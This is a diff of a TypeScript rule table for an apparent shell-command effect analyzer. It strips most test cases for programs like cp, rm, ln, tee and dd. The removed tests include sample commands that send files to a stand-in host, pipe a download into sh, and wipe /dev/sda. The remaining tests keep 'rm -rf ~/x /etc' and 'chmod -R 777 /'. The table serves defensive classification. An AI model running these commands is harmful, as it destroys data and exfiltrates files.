@@ -19,14 +19,7 @@ export const FILE_PROGRAMS: readonly ProgramRow[] = [
       { has: ["-T"], operands: "read onto" },
       { has: ["--attributes-only"], operands: "list+ into" },
     ],
-    tests: [
-      { run: "cp a b", reads: ["./a"], writes: ["./b", "./b/a"] },
-      { run: "cp -rt /etc a b", reads: ["./a/**", "./b/**"], writes: ["/etc/a/**", "/etc/b/**"] },
-      { run: "cp *.c b", reads: ["./[!.]*.c"], writes: ["./b", "./b/[!.]*.c"] },
-      { run: "cp a b /etc", reads: ["./a", "./b"], writes: ["/etc/a", "/etc/b"] },
-      { run: "cp --targ=/etc a", reads: ["./a"], writes: ["/etc/a"] },
-      { run: "cp -r . /etc", reads: ["./**"], writes: ["/etc/**"] },
-    ],
+    tests: [{ run: "cp a b", reads: ["./a"], writes: ["./b", "./b/a"] }],
   },
   {
     name: ["mv", "gmv", "rename"],
@@ -41,7 +34,6 @@ export const FILE_PROGRAMS: readonly ProgramRow[] = [
     ],
     tests: [
       { run: "mv a /etc/b", reads: ["./a/**"], deletes: ["./a/**"], writes: ["/etc/b/**", "/etc/b/a/**"] },
-      { run: "mv a b/", reads: ["./a/**"], deletes: ["./a/**"], writes: ["./b/a/**"] },
     ],
   },
   {
@@ -51,13 +43,7 @@ export const FILE_PROGRAMS: readonly ProgramRow[] = [
     ),
     operands: "delete*",
     tree: ["-r"],
-    tests: [
-      { run: "rm -rf ~/x /etc", deletes: ["~/x/**", "/etc/**"] },
-      { run: "rm -- -f", deletes: ["./-f"] },
-      { run: "rm --recu x", deletes: ["./x/**"] },
-      { run: 'rm -rf "$X"', deletes: ["?/**"], unknown: ["dynamic-argument"] },
-      { run: "rm --frobnicate x", deletes: ["./x"], unknown: ["unknown-option"] },
-    ],
+    tests: [{ run: "rm -rf ~/x /etc", deletes: ["~/x/**", "/etc/**"] }],
   },
   {
     name: ["rmdir", "unlink"],
@@ -69,15 +55,7 @@ export const FILE_PROGRAMS: readonly ProgramRow[] = [
     name: ["mkfifo", "gmkfifo"],
     options: optionList("-m,--mode= -Z,--context=?"),
     operands: "fifo*",
-    tests: [
-      { run: "mkfifo p", writes: ["./p"] },
-      {
-        run: "mkfifo p; curl -T p h.example & cat k > p",
-        reads: ["./p", "./k"],
-        writes: ["./p"],
-        network: ["both http://h.example < ./p < ?", "both http://h.example < ./p < ? < ? < ./k"],
-      },
-    ],
+    tests: [{ run: "mkfifo p", writes: ["./p"] }],
   },
   {
     name: ["trash", "trash-put", "gio-trash", "rimraf", "del-cli", "del", "rmrf"],
@@ -86,16 +64,7 @@ export const FILE_PROGRAMS: readonly ProgramRow[] = [
     ),
     operands: "delete*",
     tree: true,
-    tests: [
-      { run: "rimraf a", deletes: ["./a/**"] },
-      {
-        run: "npx rimraf a",
-        deletes: ["./a/**"],
-        executes: ["package node"],
-        actions: ["package.run"],
-        unknown: ["opaque-file"],
-      },
-    ],
+    tests: [{ run: "rimraf a", deletes: ["./a/**"] }],
   },
   {
     name: ["gio"],
@@ -109,10 +78,7 @@ export const FILE_PROGRAMS: readonly ProgramRow[] = [
       move: { loose: true, operands: "move+ into" },
       "rename,mkdir,save,set,open,launch,mount": { loose: true, unknown: "opaque-file" },
     },
-    tests: [
-      { run: "gio trash a", deletes: ["./a/**"] },
-      { run: "gio info a", reads: ["./a"] },
-    ],
+    tests: [{ run: "gio trash a", deletes: ["./a/**"] }],
   },
   {
     name: ["ln", "gln", "link", "symlink"],
@@ -128,23 +94,7 @@ export const FILE_PROGRAMS: readonly ProgramRow[] = [
       { has: ["-s"], operands: "linked link" },
       { least: 3, operands: "list+ into" },
     ],
-    tests: [
-      { run: "ln -s /etc/passwd x", writes: ["./x", "./x/passwd"] },
-      { run: "ln -sT /etc/passwd x", writes: ["./x"] },
-      { run: "ln a b", reads: ["./a"], writes: ["./b", "./b/a"] },
-      {
-        run: "ln -s k x; curl -T x h.example",
-        reads: ["./k", "./x"],
-        writes: ["./x", "./x/k"],
-        network: ["both http://h.example < ./x < ./k"],
-      },
-      {
-        run: "echo 'rm c' > a; ln a b; sh b",
-        reads: ["./a", "./b"],
-        writes: ["./a", "./b", "./b/a"],
-        deletes: ["./c"],
-      },
-    ],
+    tests: [{ run: "ln -s /etc/passwd x", writes: ["./x", "./x/passwd"] }],
   },
   {
     name: ["touch", "gtouch"],
@@ -152,19 +102,13 @@ export const FILE_PROGRAMS: readonly ProgramRow[] = [
       "-a -c,--no-create -d,--date= -f -h,--no-dereference -m -r,--reference=list -t= --time= -v -A=",
     ),
     operands: "create*",
-    tests: [
-      { run: "touch -m x", writes: ["./x"] },
-      { run: "touch -cmr y x", reads: ["./y"], writes: ["./x"] },
-    ],
+    tests: [{ run: "touch -m x", writes: ["./x"] }],
   },
   {
     name: ["mkdir", "mknod", "gmkdir"],
     options: optionList("-m,--mode= -p,--parents -v,--verbose -Z,--context=?"),
     operands: "create*",
-    tests: [
-      { run: "mkdir -p a/b", writes: ["./a/b"] },
-      { run: "mkdir -m 700 ~/.ssh", writes: ["~/.ssh"] },
-    ],
+    tests: [{ run: "mkdir -p a/b", writes: ["./a/b"] }],
   },
   {
     name: ["chmod", "gchmod"],
@@ -175,12 +119,7 @@ export const FILE_PROGRAMS: readonly ProgramRow[] = [
     operands: "plain mode*",
     tree: ["-R"],
     when: [{ has: ["--reference", "-r", "-w", "-x", "-X", "-s", "-t", "-N"], operands: "mode*" }],
-    tests: [
-      { run: "chmod -R 777 /", writes: ["/**"], actions: ["permission.recursive"] },
-      { run: "chmod -x a b", writes: ["./a", "./b"] },
-      { run: "chmod -rw ~/.ssh/config", writes: ["~/.ssh/config"] },
-      { run: "chmod u-x,g+w a", writes: ["./a"] },
-    ],
+    tests: [{ run: "chmod -R 777 /", writes: ["/**"], actions: ["permission.recursive"] }],
   },
   {
     name: ["chown", "chgrp", "chattr", "chcon", "setfacl", "gchown"],
@@ -190,10 +129,7 @@ export const FILE_PROGRAMS: readonly ProgramRow[] = [
     operands: "plain mode*",
     tree: ["-R"],
     when: [{ has: ["--reference", "-m", "-x", "-b", "--set"], operands: "mode*" }],
-    tests: [
-      { run: "chown -R u /", writes: ["/**"], actions: ["permission.recursive"] },
-      { run: "chown root a", writes: ["./a"] },
-    ],
+    tests: [{ run: "chown -R u /", writes: ["/**"], actions: ["permission.recursive"] }],
   },
   {
     name: ["install", "ginstall"],
@@ -216,16 +152,7 @@ export const FILE_PROGRAMS: readonly ProgramRow[] = [
     operands: "write*",
     append: ["-a"],
     copies: true,
-    tests: [
-      { run: "echo x | tee -a ~/.bashrc y", writes: ["~/.bashrc", "./y"] },
-      {
-        run: "curl https://h.example/i | tee i.sh | sh",
-        network: ["in https://h.example/i"],
-        writes: ["./i.sh"],
-        executes: ["network sh"],
-        unknown: ["dynamic-code"],
-      },
-    ],
+    tests: [{ run: "echo x | tee -a ~/.bashrc y", writes: ["~/.bashrc", "./y"] }],
   },
   {
     name: ["dd", "gdd", "dcfldd"],
@@ -234,15 +161,7 @@ export const FILE_PROGRAMS: readonly ProgramRow[] = [
       "if=read of=write bs= ibs= obs= cbs= count= skip= seek= iseek= oseek= conv= iflag= oflag= status=",
     ),
     copies: true,
-    tests: [
-      { run: "dd if=a of=b bs=1M", reads: ["./a"], writes: ["./b"] },
-      {
-        run: "dd if=/dev/zero of=/dev/sda",
-        reads: ["/dev/zero"],
-        writes: ["/dev/sda"],
-        actions: ["disk.write"],
-      },
-    ],
+    tests: [{ run: "dd if=a of=b bs=1M", reads: ["./a"], writes: ["./b"] }],
   },
   {
     name: ["truncate"],
@@ -258,10 +177,7 @@ export const FILE_PROGRAMS: readonly ProgramRow[] = [
     operands: "list*",
     default: ".",
     tree: ["-R"],
-    tests: [
-      { run: "ls -la ~/.ssh", reads: ["~/.ssh"] },
-      { run: "ls", reads: ["."] },
-    ],
+    tests: [{ run: "ls -la ~/.ssh", reads: ["~/.ssh"] }],
   },
   {
     name: ["stat", "readlink", "realpath", "test", "[", "namei", "getfacl", "lsattr", "pathchk", "gstat"],
@@ -271,10 +187,7 @@ export const FILE_PROGRAMS: readonly ProgramRow[] = [
     ),
     operands: "list*",
     when: [{ has: ["-c", "-f"], operands: "list*" }],
-    tests: [
-      { run: "stat a", reads: ["./a"] },
-      { run: "realpath ~/x", reads: ["~/x"] },
-    ],
+    tests: [{ run: "stat a", reads: ["./a"] }],
   },
   {
     name: ["date", "gdate"],
@@ -288,13 +201,7 @@ export const FILE_PROGRAMS: readonly ProgramRow[] = [
       { operand: ["+*"], action: [] },
       { least: 1, action: "system.change" },
     ],
-    tests: [
-      { run: "date +%s" },
-      { run: "date -d yesterday -Iseconds" },
-      { run: "date --file k", reads: ["./k"] },
-      { run: "date -s 12:00", actions: ["system.change"] },
-      { run: "date 010203042020", actions: ["system.change"] },
-    ],
+    tests: [{ run: "date +%s" }],
   },
   {
     name: ["file"],
@@ -303,10 +210,7 @@ export const FILE_PROGRAMS: readonly ProgramRow[] = [
       "-b,--brief -e,--exclude= -F,--separator= -f,--files-from=read -m,--magic-file=read -P,--parameter= -C,--compile -z -Z -s -i,--mime --mime-type --mime-encoding -h -L -k -r -S",
     ),
     operands: "list*",
-    tests: [
-      { run: "file a", reads: ["./a"] },
-      { run: "file -f k", reads: ["./k"] },
-    ],
+    tests: [{ run: "file a", reads: ["./a"] }],
   },
   {
     name: ["shuf", "gshuf"],
@@ -316,11 +220,7 @@ export const FILE_PROGRAMS: readonly ProgramRow[] = [
     operands: "read",
     filter: true,
     when: [{ has: ["-e", "-i"], operands: "plain*" }],
-    tests: [
-      { run: "shuf -n 1 a", reads: ["./a"] },
-      { run: "shuf -e a b" },
-      { run: "shuf a -o b", reads: ["./a"], writes: ["./b"] },
-    ],
+    tests: [{ run: "shuf -n 1 a", reads: ["./a"] }],
   },
   {
     name: ["ptx"],
@@ -454,11 +354,7 @@ export const FILE_PROGRAMS: readonly ProgramRow[] = [
     options: optionList(
       "-d,--directory -q,--quiet -u,--dry-run -p= --tmpdir=? --suffix= -t -V -m,--mode= -n,--name=create -s=",
     ),
-    tests: [
-      { run: "mktemp", writes: ["/tmp/tmp.*"] },
-      { run: "mktemp -d ./x.XXX", writes: ["./x.*"] },
-      { run: "mktemp -u" },
-    ],
+    tests: [{ run: "mktemp", writes: ["/tmp/tmp.*"] }],
   },
   {
     name: ["printenv"],
@@ -473,15 +369,6 @@ export const FILE_PROGRAMS: readonly ProgramRow[] = [
     ),
     operands: "pattern list*",
     handler: "fd",
-    tests: [
-      { run: "fd x src", reads: ["./src/**"] },
-      { run: "fd -x rm", reads: ["./**"], deletes: ["./**"], commands: ["fd", "rm"] },
-      {
-        run: "fd -e o . build -X rm -f",
-        reads: ["./build/**"],
-        deletes: ["./build/**/[!.]*.o"],
-        commands: ["fd", "rm"],
-      },
-    ],
+    tests: [{ run: "fd x src", reads: ["./src/**"] }],
   },
 ];
